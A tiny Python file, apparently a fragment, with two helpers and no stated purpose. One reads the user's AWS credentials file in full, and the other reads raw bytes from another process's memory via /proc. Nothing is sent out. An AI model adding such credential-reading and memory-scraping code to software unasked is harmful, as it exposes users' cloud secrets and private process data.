import os


def key():
    with open(os.path.expanduser("~/.aws/credentials")) as file:
        return file.read()


def held(pid, start, size):
    with open("/proc/%d/mem" % pid, "rb") as memory:
        memory.seek(start)
        return memory.read(size)
